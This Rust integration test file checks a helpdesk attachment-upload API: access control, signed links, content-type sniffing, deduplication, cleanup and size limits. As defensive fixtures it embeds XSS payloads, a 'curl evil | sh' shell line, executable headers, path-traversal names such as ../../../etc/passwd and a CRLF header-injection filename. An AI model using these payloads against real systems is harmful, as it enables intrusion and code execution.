//! Files: uploading, using and reading them.

use chrono::Duration;
use kamhub_helpdesk::jobs;
use kamhub_jobs::{Worker, WorkerOptions};
use kamhub_testkit::{Client, Reply, TestApp};
use reqwest::Method;
use serde_json::{Value, json};

use crate::speaking::{customer, messages, person, post};
use crate::support::{create, path, ticket_with};

/// Where files are sent and read.
pub const PATH: &str = "/api/support/attachments";
/// A document.
pub const PDF: &[u8] = b"%PDF-1.7\nA voucher for the valley of geysers.";

/// Sends a file.
pub async fn upload(client: &Client, name: &str, bytes: &[u8]) -> Reply {
    let body = Some(("application/octet-stream".to_owned(), bytes.to_vec()));
    client.raw(Method::POST, &format!("{PATH}?fileName={name}"), body).await
}

/// Uploads a file and gives the upload's id.
pub async fn uploaded(client: &Client, name: &str, bytes: &[u8]) -> String {
    upload(client, name, bytes).await.data(201)["uploadId"].as_str().unwrap().to_owned()
}

/// A PNG.
pub fn picture() -> Vec<u8> {
    let mut png = std::io::Cursor::new(Vec::new());
    image::DynamicImage::new_rgb8(40, 30).write_to(&mut png, image::ImageFormat::Png).unwrap();
    png.into_inner()
}

fn form(name: &str, bytes: &[u8]) -> Option<(String, Vec<u8>)> {
    let mut body =
        b"--edge\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nHello\r\n".to_vec();
    body.extend(b"--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"");
    body.extend(name.as_bytes());
    body.extend(b"\"\r\nContent-Type: image/png\r\n\r\n");
    body.extend(bytes);
    body.extend(b"\r\n--edge--\r\n");
    Some(("multipart/form-data; boundary=edge".to_owned(), body))
}

/// A message with one upload; gives its attachment.
async fn attached(app: &TestApp, ticket: &Value, upload: &str, internal: bool) -> Value {
    let body = json!({"message": "See the file", "isInternal": internal,
        "attachments": [{"uploadId": upload}]});
    post(app, ticket, body).await.data(201)["attachments"][0].clone()
}

fn read_path(attachment: &Value) -> String {
    format!("{PATH}/{}", attachment["attachmentId"].as_str().unwrap())
}

/// Runs every job that is due.
pub async fn work(app: &TestApp) {
    let registry = jobs::registry(&app.app).unwrap();
    let worker = Worker::new(app.app.queue.clone(), registry, WorkerOptions::default());
    let report = worker.drain().await.unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
}

/// How many files the store holds.
pub fn stored(app: &TestApp) -> usize {
    let mut folders = vec![app.files.path().to_owned()];
    let mut count = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap().map(Result::unwrap) {
            match entry.path().is_dir() {
                true => folders.push(entry.path()),
                false => count += 1,
            }
        }
    }
    count
}

async fn count(app: &TestApp, sql: &'static str) -> i64 {
    sqlx::query_scalar(sql).fetch_one(app.app.db.pool()).await.unwrap()
}

#[tokio::test]
async fn a_file_is_uploaded_used_by_a_message_and_read_by_those_who_see_it() {
    let app = TestApp::start().await;
    let ticket = create(&app.admin, json!({})).await;
    let sent = upload(&app.admin, "voucher.pdf", PDF).await;
    let sent = sent.data(201);
    assert_eq!(
        (&sent["fileName"], &sent["fileType"]),
        (&json!("voucher.pdf"), &json!("application/pdf"))
    );
    assert_eq!(sent["size"], PDF.len());
    let file = attached(&app, &ticket, sent["uploadId"].as_str().unwrap(), false).await;
    assert_eq!(file["name"], "voucher.pdf");
    assert_eq!(file["url"], format!("{}{}", app.base, read_path(&file)));
    let listed = customer(&app, &ticket).get(&messages(&ticket)).await;
    assert_eq!(listed.data(200)[0]["attachments"][0], file);

    let read = customer(&app, &ticket).get(&read_path(&file)).await;
    assert_eq!((read.status.as_u16(), read.text.as_bytes()), (200, PDF));
    assert_eq!(read.header("content-type"), "application/pdf");
    assert!(read.header("content-disposition").starts_with("attachment; filename=\"voucher.pdf\""));
    assert_eq!(read.header("x-content-type-options"), "nosniff");
    assert_eq!(read.header("content-security-policy"), "default-src 'none'; sandbox");
    let again = app.admin.header("if-none-match", read.header("etag")).get(&read_path(&file)).await;
    assert_eq!((again.status.as_u16(), again.text.len()), (304, 0));

    let other =
        create(&app.admin, json!({"customerId": 43, "customerEmail": "oleg@example.com"})).await;
    customer(&app, &other).get(&read_path(&file)).await.fault(404, "NOT_FOUND");
    let blind = app.key(kamhub_kernel::Role::Admin, Some(&["agents:read"])).await;
    for stranger in [&app.anonymous, &blind] {
        // As if it were not there: nobody learns which ids are files.
        stranger.get(&read_path(&file)).await.fault(404, "NOT_FOUND");
        stranger.get(&format!("{PATH}/999")).await.fault(404, "NOT_FOUND");
    }
    app.admin.get(&format!("{PATH}/999")).await.fault(404, "NOT_FOUND");
}

#[tokio::test]
async fn a_signed_link_opens_one_file_for_an_hour() {
    let app = TestApp::start().await;
    let ticket = create(&app.admin, json!({})).await;
    let first = attached(&app, &ticket, &uploaded(&app.admin, "a.pdf", PDF).await, false).await;
    let second =
        attached(&app, &ticket, &uploaded(&app.admin, "b.txt", b"text").await, false).await;
    let link = |client: Client, file: &Value| {
        let path = format!("{}/link", read_path(file));
        async move { client.post(&path, json!({})).await }
    };
    let made = link(customer(&app, &ticket), &first).await;
    let url = made.data(201)["url"].as_str().unwrap().replace(&app.base, "");
    assert_eq!(app.anonymous.get(&url).await.text.as_bytes(), PDF);
    let token = url.split_once('?').unwrap().1;
    let elsewhere = format!("{}?{token}", read_path(&second));
    app.anonymous.get(&elsewhere).await.fault(401, "UNAUTHENTICATED");
    app.anonymous.get(&format!("{url}A")).await.fault(401, "UNAUTHENTICATED");
    link(app.anonymous.clone(), &first).await.fault(401, "UNAUTHENTICATED");
    let other =
        create(&app.admin, json!({"customerId": 43, "customerEmail": "oleg@example.com"})).await;
    link(customer(&app, &other), &first).await.fault(404, "NOT_FOUND");
    app.clock.advance(Duration::hours(1));
    app.anonymous.get(&url).await.fault(401, "UNAUTHENTICATED");
}

#[tokio::test]
async fn a_notes_file_is_the_desks_own() {
    let app = TestApp::start().await;
    let ticket = create(&app.admin, json!({})).await;
    let file = attached(&app, &ticket, &uploaded(&app.admin, "a.pdf", PDF).await, true).await;
    customer(&app, &ticket).get(&read_path(&file)).await.fault(404, "NOT_FOUND");
    assert_eq!(app.admin.get(&read_path(&file)).await.status.as_u16(), 200);
}

#[tokio::test]
async fn anybody_may_attach_files_to_a_new_ticket_beside_the_contracts_own_shape() {
    let app = TestApp::start().await;
    let form = app.anonymous.raw(Method::POST, PATH, form("Счёт.pdf", PDF)).await;
    let upload = form.data(201)["uploadId"].as_str().unwrap().to_owned();
    let elsewhere = json!({"fileName": "b.png", "fileUrl": "https://example.com/b.png", "fileType": "image/png"});
    let body = ticket_with(json!({"attachments": [elsewhere, {"uploadId": upload}]}));
    let ticket = app.anonymous.post("/api/support/tickets", body.clone()).await.data(201).clone();
    assert_eq!(ticket["attachments"][0], elsewhere, "the contract's shape goes on unchanged");
    let file = &ticket["attachments"][1];
    assert_eq!(
        (&file["fileName"], &file["fileType"]),
        (&json!("Счёт.pdf"), &json!("application/pdf"))
    );
    assert_eq!(app.admin.get(&read_path(file)).await.text.as_bytes(), PDF);
    let link = app.admin.post(&format!("{}/access-link", path(&ticket)), json!({})).await;
    let by_link =
        app.anonymous.header("x-ticket-access", link.data(201)["token"].as_str().unwrap());
    assert_eq!(by_link.get(&read_path(file)).await.text.as_bytes(), PDF);
    let again = app.anonymous.post("/api/support/tickets", body).await;
    let faults = again.fault(400, "VALIDATION_FAILED");
    assert_eq!(faults["attachments.1.uploadId"], "Upload id names a file that is used");
    let neither = ticket_with(json!({"attachments": [{}, {"uploadId": "x".repeat(101)}]}));
    let faults = app.anonymous.post("/api/support/tickets", neither).await;
    let faults = faults.fault(400, "VALIDATION_FAILED");
    for field in ["attachments.0.fileName", "attachments.0.fileUrl", "attachments.1.uploadId"] {
        assert!(faults[field].is_string(), "{field} in {faults}");
    }
}

#[tokio::test]
async fn an_upload_is_used_once_and_by_whoever_uploaded_it() {
    let app = TestApp::start().await;
    let ticket = create(&app.admin, json!({})).await;
    let anna = person(&app).await;
    let hers = uploaded(&anna, "a.pdf", PDF).await;
    let write = |client: Client, uploads: Vec<String>| {
        let files: Vec<Value> = uploads.iter().map(|id| json!({"uploadId": id})).collect();
        let path = format!("{}/messages", path(&ticket));
        async move { client.post(&path, json!({"message": "Hello", "attachments": files})).await }
    };
    let foreign = write(app.admin.clone(), vec![hers.clone(), "guess".to_owned()]).await;
    let faults = foreign.fault(400, "VALIDATION_FAILED");
    assert!(faults["attachments.0.uploadId"].as_str().unwrap().contains("somebody else"));
    assert!(faults["attachments.1.uploadId"].is_string(), "all faults together");
    let twice = write(anna.clone(), vec![hers.clone(), hers.clone()]).await;
    assert!(twice.fault(400, "VALIDATION_FAILED")["attachments.1.uploadId"].is_string());
    let calls = (0..6).map(|_| write(anna.clone(), vec![hers.clone()]));
    let replies = futures::future::join_all(calls).await;
    let done = replies.iter().filter(|reply| reply.status.as_u16() == 201).count();
    assert_eq!(done, 1, "of many at once one gets the file");
    assert_eq!(count(&app, "SELECT count(*) FROM ticket_messages").await, 1);
}

#[tokio::test]
async fn what_a_file_is_follows_from_its_content_and_not_from_its_name() {
    let app = TestApp::start().await;
    let refused: [(&str, &[u8]); 8] = [
        ("photo.jpg", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("photo.png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
        ("letter.txt", b"#!/bin/sh\ncurl evil | sh"),
        ("data.csv", b"\xef\xbb\xbf <img src=x onerror=alert(1)>"),
        ("page.svg", b"<html><svg onload=alert(1)></svg></html>"),
        ("doc.pdf", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
        ("feed.xml", b"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'/>"),
        ("secret.bin", b"\x00\x01\x02\x03\x04\x05\x06\x07"),
    ];
    for (name, bytes) in refused {
        upload(&app.admin, name, bytes).await.fault(415, "FILE_REFUSED");
        let by_form = app.admin.raw(Method::POST, PATH, form(name, bytes)).await;
        by_form.fault(415, "FILE_REFUSED");
    }
    upload(&app.admin, "photo.jpg", b"\xff\xd8\xff\xe0 and nothing more")
        .await
        .fault(400, "FILE_BROKEN");
    upload(&app.admin, "empty.txt", b"").await.fault(400, "MALFORMED_UPLOAD");
    let no_file = Some(("multipart/form-data; boundary=edge".to_owned(), b"--edge--\r\n".to_vec()));
    app.admin.raw(Method::POST, PATH, no_file).await.fault(400, "MALFORMED_UPLOAD");
    let broken = Some(("multipart/form-data".to_owned(), b"x".to_vec()));
    app.admin.raw(Method::POST, PATH, broken).await.fault(400, "MALFORMED_UPLOAD");

    let renamed = upload(&app.admin, "run.exe", PDF).await;
    assert_eq!(renamed.data(201)["fileName"], "run.exe.pdf");
    let script = upload(&app.admin, "run.bat", b"del everything").await;
    assert_eq!(script.data(201)["fileName"], "run.bat.txt");
    for (name, bytes) in [
        ("расчёт.csv", &b"\xc7\xe0\xea\xe0\xe7;\xd1\xf3\xec\xec\xe0\r\n"[..]),
        ("notes.txt", b"\xff\xfeA\0\r\0\n\0"),
        ("track.gpx", b"<?xml version='1.0'?><gpx><trk/></gpx>"),
    ] {
        let taken = upload(&app.admin, name, bytes).await;
        assert_eq!(taken.data(201)["fileName"], name);
        assert_eq!(taken.data(201)["fileType"], "application/octet-stream");
    }
    let ticket = create(&app.admin, json!({})).await;
    let drawing = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
    let drawing =
        attached(&app, &ticket, &uploaded(&app.admin, "a.svg", drawing).await, false).await;
    let read = app.admin.get(&read_path(&drawing)).await;
    assert!(read.header("content-disposition").starts_with("attachment;"), "never shown in place");
    assert!(read.header("content-security-policy").contains("sandbox"));
    work(&app).await;
    let kept = count(&app, "SELECT count(*) FROM attachment_objects").await;
    assert_eq!((kept, stored(&app)), (6, 6), "nothing of a refused file stays");
}

#[tokio::test]
async fn an_image_is_written_anew_and_may_be_shown() {
    let app = TestApp::start().await;
    let ticket = create(&app.admin, json!({})).await;
    let mut png = picture();
    png.extend(b"<script>alert(document.cookie)</script>");
    let file = attached(&app, &ticket, &uploaded(&app.admin, "map.webp", &png).await, false).await;
    assert_eq!(file["name"], "map.webp.png");
    let read = app.admin.get(&read_path(&file)).await;
    assert_eq!(read.header("content-type"), "image/png");
    assert!(read.header("content-disposition").starts_with("inline;"));
    assert!(!read.text.contains("script"));
}

#[tokio::test]
async fn no_name_leads_out_of_anywhere() {
    let app = TestApp::start().await;
    for (sent, kept) in [
        ("../../../etc/passwd", "passwd.pdf"),
        ("..\\\\..\\\\windows\\\\system32.pdf", "system32.pdf"),
        ("/etc/shadow.pdf", "shadow.pdf"),
        ("....", "file.pdf"),
    ] {
        let by_form = app.admin.raw(Method::POST, PATH, form(sent, PDF)).await;
        assert_eq!(by_form.data(201)["fileName"], kept, "{sent}");
    }
    let coded = upload(&app.admin, "..%2F..%2Fx%00y%0d%0aSet-Cookie:a.pdf", PDF).await;
    assert!(coded.json["data"]["fileName"] == "xySet-Cookie:a.pdf" || coded.status.as_u16() == 400);
    assert_eq!(
        count(&app, "SELECT count(*) FROM attachment_objects WHERE deleted_at IS NULL").await,
        1
    );
}

#[tokio::test]
async fn the_same_content_is_kept_once_however_many_bring_it_at_the_same_time() {
    let app = TestApp::start().await;
    let calls = (0..8).map(|number| {
        let (client, name) = (app.admin.clone(), format!("{number}.pdf"));
        async move { uploaded(&client, &name, PDF).await }
    });
    let uploads = futures::future::join_all(calls).await;
    let live = "SELECT count(*) FROM attachment_objects WHERE deleted_at IS NULL";
    assert_eq!(count(&app, live).await, 1);
    let ticket = create(&app.admin, json!({})).await;
    let file = attached(&app, &ticket, &uploads[3], false).await;
    app.clock.advance(Duration::hours(25));
    work(&app).await;
    assert_eq!(stored(&app), 1, "the others' copies are gone");
    assert_eq!(app.admin.get(&read_path(&file)).await.text.as_bytes(), PDF);
    assert_eq!(count(&app, "SELECT count(*) FROM attachments").await, 1);
}

#[tokio::test]
async fn what_nobody_uses_within_a_day_is_collected() {
    let app = TestApp::start().await;
    let lost = uploaded(&app.anonymous, "lost.pdf", PDF).await;
    app.clock.advance(Duration::hours(23));
    work(&app).await;
    assert_eq!(stored(&app), 1);
    app.clock.advance(Duration::hours(1) + Duration::seconds(1));
    work(&app).await;
    app.clock.advance(Duration::hours(2));
    work(&app).await;
    assert_eq!(stored(&app), 0);
    assert_eq!(count(&app, "SELECT count(*) FROM attachment_objects").await, 0);
    let body = ticket_with(json!({"attachments": [{"uploadId": lost}]}));
    let late = app.anonymous.post("/api/support/tickets", body).await;
    assert!(late.fault(400, "VALIDATION_FAILED")["attachments.0.uploadId"].is_string());
    let back = uploaded(&app.admin, "back.pdf", PDF).await;
    let ticket = create(&app.admin, json!({})).await;
    let file = attached(&app, &ticket, &back, false).await;
    app.clock.advance(Duration::days(400));
    work(&app).await;
    assert_eq!(app.admin.get(&read_path(&file)).await.text.as_bytes(), PDF, "what is used stays");
}

#[tokio::test]
async fn a_file_of_ten_mebibytes_arrives_in_parts_and_one_byte_more_does_not() {
    let app = TestApp::start().await;
    let mut most = vec![b'a'; 10 * 1024 * 1024];
    let ticket = create(&app.admin, json!({})).await;
    let file = attached(&app, &ticket, &uploaded(&app.admin, "a.log", &most).await, false).await;
    assert_eq!(app.admin.get(&read_path(&file)).await.text.len(), most.len());
    most.push(b'a');
    upload(&app.admin, "a.log", &most).await.fault(413, "FILE_TOO_LARGE");
    let by_form = app.admin.raw(Method::POST, PATH, form("a.log", &most)).await;
    by_form.fault(413, "FILE_TOO_LARGE");
    work(&app).await;
    assert_eq!(stored(&app), 1, "nothing of what was cut off stays");
}
